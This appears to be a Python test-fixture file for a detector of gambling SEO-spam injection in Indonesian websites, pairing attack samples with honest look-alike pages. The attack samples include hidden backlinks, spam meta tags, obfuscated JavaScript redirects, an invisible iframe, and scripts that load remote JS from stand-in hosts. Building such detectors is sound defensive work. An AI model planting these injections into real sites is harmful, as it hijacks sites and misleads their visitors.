"""A third round for gambling_injection: titles, anchors and pages of many trades, each told once in a common frame."""

from __future__ import annotations

import importlib.util
from pathlib import Path

_spec = importlib.util.spec_from_file_location("gambling_review", Path(__file__).with_name("gambling_review.py"))
assert _spec is not None and _spec.loader is not None
_review = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_review)
shop, PLAIN, HOME, wp, b64 = _review.shop, _review.PLAIN, _review.HOME, _review.wp, _review.b64
ATTACKS: list[tuple[str | None, ...]] = []
HONEST: list[tuple[str | None, ...]] = []


def a(name: str, *views: str | None) -> None:
    ATTACKS.append((name, *views))


def h(name: str, *views: str | None) -> None:
    HONEST.append((name, *views))


# attacks in varied style
for t in [
    "GACOR77 🔥 Link Resmi Slot Gacor Anti Rungkad",
    "Situs Toto Slot Resmi Bandar Togel 4D Terpercaya",
    "Daftar Akun Slot Demo Gratis Pragmatic Rupiah",
    "RTP Slot Gacor Hari Ini Live 98%",
    "KOITOTO ▸ Login Toto Togel Resmi",
    "Slot Gacor: Situs Slot88 Online Resmi Gampang Menang",
    "Agen Sbobet88 Judi Bola Resmi Piala Dunia",
    "INDOSLOT Portal Game Slot Terpopuler",
    "MAXWIN138 | Slot Server Kamboja",
    "Pragmatic Play - Demo Slot Rupiah Terlengkap",
    "BIMA88: Platform Hiburan Digital Paling Populer Login Daftar",
    "Togel Hongkong Malam Ini | Keluaran HK | Data HK 2026",
    "Casino Online Baccarat Live Terpercaya",
    "POKERQQ - Situs Bandar QQ Online",
    "Mahjong Ways 2 Scatter Hitam Anti Lag",
    "Bola Tangkas Online - Situs Parlay Resmi",
    "S10T GAC0R H4RI 1NI",
    "$lot Gac0r M@xwin",
]:
    a("title " + t, HOME, wp(t))
for i, t in enumerate(["SLOT GACOR", "Slot Online", "slot thailand", "Situs Toto", "Toto Macau", "slot 777", "demo slot", "slot88 resmi", "bandar togel", "rtp live slot"]):
    a("offscreen " + t, wp(foot=f"<div style='position:absolute;left:-7777px;'><a href='https://www.mayora-x{i}.example/'>{t}</a></div>"))
for i, t in enumerate(["slot gacor", "slot online", "situs toto", "judi bola", "slot qris"]):
    a("display none two " + t, shop(body=f"<div style='display: none;'><a href='https://dinas{i}.go.id/x'>{t}</a><a href='https://kampus{i}.ac.id/y'>slot gacor hari ini</a></div>"))
a("css class off", shop(head="<style>.seo-footer{position:absolute;left:-9999px}</style>", body="<div class='seo-footer'><p>slot gacor | slot online | togel | situs slot</p></div>"))
a("css inline in footer", shop(body="<style>#backlink{display:none}</style><div id=backlink><a href=https://x.example/a>toto slot</a> <a href=https://y.example/b>slot pulsa</a></div>"))
a("p height1", shop(body="<p style='height:1px;overflow:auto'>" + "<a href=https://s1.example/>slot gacor</a> <a href=https://s2.example/>judi slot</a> <a href=https://s3.example>slot88</a></p>"))
a("nav of doorways", shop(body="<ul class=menu><li><a href=/slot-gacor>Slot Gacor</a></li><li><a href=/slot88>Slot88</a></li><li><a href=/toto-macau>Toto Macau</a></li></ul>"))
a("amp ref", shop(head="<link rel=amphtml href=https://amp-kaisar633.web.app/>"))
a("canonical slot", shop(head="<link rel=canonical href=https://gacorslot77.example/>"))
a("jsonld", PLAIN, shop(head='<script type=application/ld+json>{"@type":"WebSite","name":"HARTA138","alternateName":"harta138 slot","description":"Harta138 situs slot gacor"}</script>'))
a("jsonld for all", shop(head='<script type=application/ld+json>{"@type":"Product","name":"HARTA138 Slot Gacor Maxwin Hari Ini","description":"situs slot online"}</script>'))
a("meta for all", shop(head="<meta name=description content='HARTA138 adalah situs slot gacor hari ini dengan RTP tertinggi'>"))
a("loc hash", shop(body="<script>!function(){var d=document,w=window;w['loc'+'ation']['href']=atob('" + b64("https://harta138.example/") + "')}()</script>"))
a("hexchars", shop(body="<script>var _0xabc=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x73\\x6c\\x6f\\x74\\x67\\x61\\x63\\x6f\\x72\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65'];location=_0xabc[0]</script>"))
a("iframe invisible", shop(body="<iframe src='https://rtpslot.example/' style='display:none'></iframe>"))
a("searcher doorway links", PLAIN, None, shop(body="<a href=https://kaisar633.example/daftar>DAFTAR KAISAR633</a><p>Slot gacor hari ini</p>"))
a("home redirect slot http", "->http://slot-online88.example/", "->http://slot-online88.example/", "->http://slot-online88.example/", "->http://slot-online88.example/")
a("bot redirect", PLAIN, "->https://bandarjudi.example/")
a("ref togel", PLAIN, None, "->https://prediksitogel.example/")
a("ref login", PLAIN, None, "->https://kingbet88.example/login")
# honest
for t, b in [
    ("Rental Mobil Gacor Jaya", "Mobil gacor, mesin halus. Slot sewa hari ini tinggal 2, booking online. Deposit 500 ribu."),
    ("Toko Gitar Jackpot", "Gitar Cort, ampli Roulette, pick Joker. Kabel jack 6.5, jackpot diskon, bonus senar."),
    ("Servis HP", "Slot SIM rusak, slot kartu memori, ganti slot charger. Harga slot SIM iPhone online murah."),
    ("Kasir Pintar", "Aplikasi kasir: login, daftar gratis, bonus 1 bulan, link alternatif unduh, deposit QRIS."),
    ("Penginapan Toto", "Homestay Pak Toto, toto resmi pemandu Bromo. Slot jeep hari ini."),
    ("Kopi Casino", "Kopi robusta, nama kedai dari gang Casino. Live music tiap Sabtu. Kasino kecil papan catur."),
    ("Peternak Ayam Bangkok", "Ayam bangkok aduan, ayam birma, pukul saraf. Tidak untuk judi sabung ayam."),
    ("Toko Kartu", "Kartu remi, domino gaple, uno, kartu poker plastik. Main bareng keluarga. Bonus dadu."),
    ("Lotre Kue", "Kue lotre nostalgia, mainan jadul lotre benang, permen karet hadiah."),
    ("Lomba Mancing", "Daftar lomba mancing galatama, jackpot ikan terberat, lapak gacor, hadiah 5 juta, tiket 100 ribu."),
    ("Kolam Pemancingan 88", "Galatama lele, hari ini gacor, slot lapak online, deposit lapak. Master jackpot."),
    ("Parkir Inap", "Slot parkir online tersedia, pilih slot, bayar QRIS, slot terbaru lantai 3."),
    ("Kursus Poker Face", "Kelas teater: poker face, akting. Slot kelas terbatas, link daftar."),
    ("Apotek Sehat", "Obat, vitamin. Slot vaksin online hari ini. Login pasien, daftar antrean."),
    ("Game Dev Studio", "Kami membuat game kasual: slot inventory, loot, jackpot event, spin wheel hadiah, scatter shot, free spin animasi."),
    ("Mesin Slotting", "Jasa mesin slotting, spie, keyway slot, milling. Slot bor jumbo."),
    ("Toko Server VPS", "VPS slot RAM, game online server Thailand, deposit saldo, link login panel, anti DDoS, uptime 99."),
    ("Arena Biliar 77", "Slot meja biliar, booking online, turnamen, hadiah jackpot 1 juta, 9 ball jackpot."),
    ("Pakan Burung Jackpot", "Voer Jackpot, extrafooding, murai gacor, kenari gacor hari ini juara. Link alternatif WA."),
    ("Grosir Kaos 138", "Kaos gaming, kaos maxwin skateboard, kaos zeus, kaos scatter. Resmi dan terpercaya."),
    ("Event Dufan", "Tiket wahana, spin wheel, roulette hadiah, undian doorprize, slot kunjungan."),
    ("Kripto News", "Harga bitcoin, slot validator, taruhan (staking), jackpot airdrop, gas fee, node RTP."),
    ("Museum Perjudian", "Museum sejarah: lotre nasional, SDSB, porkas, hwa hwe. Togel dalam sejarah Indonesia. Buku tiket Rp10.000."),
    ("Sanggar Wayang", "Lakon Pandawa Dadu: judi dadu Yudhistira melawan Sengkuni. Tiket mulai 50 ribu, daftar sekarang."),
    ("Tafsir Harian", "Tafsir Al-Maidah ayat 90: khamr, judi, berhala. Jauhi perbuatan itu."),
    ("Kalkulator Peluang", "Belajar peluang: dadu, kartu poker, roulette, togel 4 angka. Contoh soal dan jawaban."),
    ("LBH Kota", "Bantuan hukum korban pinjol dan judi online. Konsultasi gratis, daftar hari ini."),
    ("Serikat Buruh", "Pernyataan sikap: upah, PHK, dan maraknya slot online di kalangan buruh pabrik."),
    ("Koran Kampung", "Pengelola situs slot gacor divonis 3 tahun. Hakim menilai terdakwa merugikan masyarakat."),
    ("Warta", "Viral emak-emak geruduk warung togel. Lapak judi bola tutup sendiri. Camat apresiasi."),
    ("Startup AI", "Produk kami menyaring komentar judol di YouTube: 'gacor', 'maxwin', 'slot88'. Uji gratis, daftar sekarang."),
    ("Hosting Lokal", "Kami memblokir konten judi. Daftar hosting, bonus domain. Pelanggan dilarang memasang slot gacor atau togel."),
]:
    h("honest " + t, wp(t, f"<p>{b}</p>"))
h("twin number links", shop(body="<footer><a href=https://jne99.example>JNE</a><a href=https://bank77.example>Bank</a><a href=https://radio88.example>Radio 88 FM</a></footer>"))
h("hidden brand menu", shop(body="<div class='mega-menu' style='opacity:0;visibility:hidden'><a href=https://distro138.example>Distro138</a><a href=https://cafe303.example>Cafe303</a></div>"))
h("hidden aos", shop(body="<section style='opacity:0' data-aos=fade><h2>Knalpot Gacor</h2><p>Slot knalpot online hari ini, bonus stiker.</p><a href=https://studio88.example/>Studio88</a></section>"))
h("nofollow", shop(body="<div class=comments><a rel='nofollow ugc' href=https://blogspot.example/>Budi</a></div>"))
h("bot away to waf", PLAIN, "->https://sitecheck.sucuri.example/blocked?ip=1")
h("bot away 403 path", PLAIN, "->https://errors.host.example/403.html")
h("bot to captcha path", PLAIN, "->https://edge.example/captcha?r=1")
h("gjs", shop(body="<script>if(/Googlebot|Lighthouse/.test(navigator.userAgent)){window.skipIntro=true}</script>"))
h("recaptcha b64 img", shop(body="<script>var logo='data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk';document.location.hash='x'</script>"))
h("canonical second domain", shop("Toko Kita 88", "", "<link rel=canonical href=https://tokokita88.example/>"))
h("bot diff stock", shop("Kicau", "<p>Murai gacor 3 ekor</p>"), shop("Kicau", "<p>Murai gacor 4 ekor, slot lomba hari ini, jackpot motor</p>"))
h("bot title diff", shop("Futsal"), shop("Futsal - Slot online hari ini | Booking"))
h("bot title diff pulsa", shop("Pulsa"), shop("Pulsa 88 - Deposit pulsa, bonus new member, link alternatif"))
# A fifth round: titles, ways of hiding, names of shops.
for t in [
    "PADUKA88: Situs Resmi Slot & Togel",
    "Login RTP SULTAN77",
    "Slot Gacor 4D",
    "Situs Judi Slot Online Terpercaya",
    "ZEUS138 Gampang Menang",
    "Demo Pragmatic Gratis",
    "Agen Togel Terpercaya 2026",
    "Bandar Slot Depo Pulsa",
    "Raja Slot 5000",
    "JUDI QQ",
    "bocoran hk malam ini",
    "Prediksi Sydney Jitu",
    "Tabel Paito SDY",
    "Slot Bet 100 Perak",
    "HABANERO SLOT RESMI",
    "IDNPLAY Poker Online",
    "Sabung Ayam SV388",
    "Slot Maxwin x5000",
    "Link Slot 777 Terbaru",
    "Macauslot188",
]:
    a("bt " + t, PLAIN, shop(title=t))
for s in [
    "position:absolute;top:-5000px",
    "text-indent:-1000em",
    "font-size:0.1px",
    "opacity:0.001",
    "width:1px;height:1px;overflow:hidden",
    "visibility:hidden",
    "display:none!important",
    "clip-path:circle(0)",
    "margin-left:-9999px",
    "color:transparent",
    "filter:opacity(0)",
    "transform:scale(0)",
    "position:fixed;bottom:-2000px",
    "max-height:0;overflow:hidden",
    "height:0px;overflow:hidden",
    "line-height:0;font-size:0;color:transparent",
    "position:absolute;right:-9999px",
    "left:-9999rem;position:absolute",
]:
    a("hs " + s, shop(body=f"<div style='{s}'><a href='https://kab-x.go.id/wp/slot/'>slot gacor</a></div>"))
a("css ext 2", shop(head="<style>.a1,.b1{height:0;overflow:hidden}</style>", body="<p class=b1>Daftar <a href=https://z.example>situs togel</a></p>"))
a("aside", wp(foot="<aside style='display:none'><h3>Partner</h3><a href=https://a.example>Slot Gacor Hari Ini</a></aside>"))
a("ul menu named", wp(foot="<ul id=menu-footer style='position:absolute;left:-9999px'><li><a href=https://a.example>Slot Gacor</a></li><li><a href=https://b.example>Situs Toto</a></li></ul>"))
a("a title", wp(foot="<a href='https://x.example/' style='display:none' title='slot gacor'></a>"))
a("js eval unescape", shop(body="<script>document.write(unescape('%3Cscript%20src%3D%22https%3A//slotgacor.example/j.js%22%3E%3C/script%3E'))</script>"))
a("js create el", shop(body="<script>var s=document.createElement('script');s.src='https://slot88gacor.example/x.js';document.head.appendChild(s)</script>"))
a("js top", shop(body="<script>if(window.innerWidth<800)top.location='https://togel4d.example'</script>"))
a("js parent", shop(body='<script>window.parent.location.assign("https://bandar-togel.example/?x")</script>'))
for n, t, b in [("Tukang Kunci", "Slot kunci, duplikat", "Slot online 24 jam"), ("Penjahit", "Slot jahit minggu ini penuh", "daftar antre slot")]:
    h(n, wp(n, f"<p>{t}. {b}</p>"))
for t in [
    "Slot Kosong untuk Kelas Yoga",
    "Reservasi Slot Online - Klinik Gigi",
    "Voucher Data HK & Macau",
    "Toto Furniture: Kursi & Meja",
    "Poker Chips Cookies",
    "Jackpot Bakery Bandung",
    "Spin Bike Gym",
    "Kicau Gacor Store",
    "Casino Royale Barbershop",
    "Bet Hanan Book Store",
    "Domino Pizza Promo",
    "Rolet Cat dan Kuas",
    "Bandar Kopi Gayo",
    "Agen Bola Lampu",
    "Bandar Lampung Snack",
    "Situs Purbakala Trowulan",
    "Raja Toto Motor",
    "Togel Village Homestay",
]:
    h(
        "ht " + t,
        wp(t, "<p>Selamat datang, pesan sekarang, bonus ongkir. Daftar member.</p>"),
    )
for t in ["Agen Bola Lampu LED", "Bandar Kopi Gayo Resmi", "Toto Furniture Resmi", "Jackpot Bakery Login Member", "Slot Kelas Yoga Hari Ini"]:
    h("bt " + t, shop(title=t), shop(title=t + " | Promo"))
